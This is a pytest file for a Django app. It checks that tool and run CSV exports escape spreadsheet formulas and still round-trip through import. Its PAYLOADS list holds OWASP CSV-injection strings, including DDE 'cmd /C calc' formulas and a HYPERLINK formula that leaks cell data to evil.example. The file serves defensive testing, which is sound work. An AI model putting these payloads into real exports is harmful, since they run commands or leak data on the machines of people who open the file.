"""CSV injection (OWASP): the exports of tools and of a run write no cell a spreadsheet
would run, and an exported tools file imports through the pages into identical tools."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from selector.csv_cells import unescape_text
from selector.models import Run, Tool
from selector.services.tools import save_tool
from tests.factories import EvaluationFactory, MembershipFactory, scored_tool

# OWASP's CSV injection examples, and texts that already carry the escape's apostrophe.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click here")',
    "\t=1",
    "\r=1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "'=1+1",
    "''-1",
    "'quoted",
    "-5",
    "=",
]
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


def cells(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def tools_state(workspace) -> list[tuple]:
    return sorted(
        (
            tool.name,
            tool.vendor,
            tool.model_provider,
            tool.notes,
            sorted(
                (s.criterion.key, s.value, s.low, s.high) for s in tool.scores.all()
            ),
        )
        for tool in Tool.objects.filter(workspace=workspace).prefetch_related(
            "scores__criterion"
        )
    )


@pytest.fixture
def payload_tools(member):
    user, workspace = member
    for number, text in enumerate(PAYLOADS):
        save_tool(
            user=user,
            workspace=workspace,
            data={
                "name": text,
                "vendor": text,
                "model_provider": PAYLOADS[-number - 1],
                "notes": f"{text}\n{text}",
            },
            scores={
                "roi": {"value": 3, "low": 2, "high": 4},
                "price": 12.5 + number,
                "industry_customization": 1 + number % 5,
            },
        )
    return workspace


def test_the_tools_export_writes_no_cell_a_spreadsheet_would_run(
    member_client, payload_tools
):
    rows = cells(member_client.get("/tools/export.csv"))
    assert len(rows) == len(PAYLOADS) + 1
    runnable = [cell for row in rows for cell in row if cell.startswith(RUNNABLE)]
    assert runnable == []
    names = {unescape_text(row[0]) for row in rows[1:]}
    assert names == set(PAYLOADS)


def test_an_exported_file_imports_through_the_pages_into_identical_tools(
    member_client, payload_tools
):
    exported = member_client.get("/tools/export.csv").content
    other = MembershipFactory()
    client = Client()
    client.force_login(other.user)
    upload = SimpleUploadedFile("tools.csv", exported, content_type="text/csv")
    preview = client.post("/tools/import/", {"file": upload, "action": "preview"})
    assert preview.status_code == 200
    assert [row.errors for row in preview.context["rows"]] == [[]] * len(PAYLOADS)
    done = client.post(
        "/tools/import/", {"content": preview.context["content"], "action": "import"}
    )
    assert done.status_code == 302
    assert tools_state(other.workspace) == tools_state(payload_tools)


def test_the_run_export_escapes_tool_names_and_keeps_numbers_numeric(
    member_client, member, django_capture_on_commit_callbacks
):
    _, workspace = member
    tools = [
        scored_tool(
            workspace, text, roi=1 + n % 5, industry_customization=1 + n % 4, price=n
        )
        for n, text in enumerate(PAYLOADS)
    ]
    evaluation = EvaluationFactory(workspace=workspace, tools=tools)
    with django_capture_on_commit_callbacks(execute=True):
        member_client.post(f"/evaluations/{evaluation.pk}/run/")
    run = Run.objects.get()
    assert run.status == "done", run.error
    rows = cells(member_client.get(f"/runs/{run.pk}/export.csv"))
    assert [cell for row in rows for cell in row if cell.startswith(RUNNABLE)] == []
    assert {unescape_text(row[1]) for row in rows[1:]} == set(PAYLOADS)
    for row in rows[1:]:
        int(row[0])
        [float(number) for number in row[2:]]  # numbers, not text
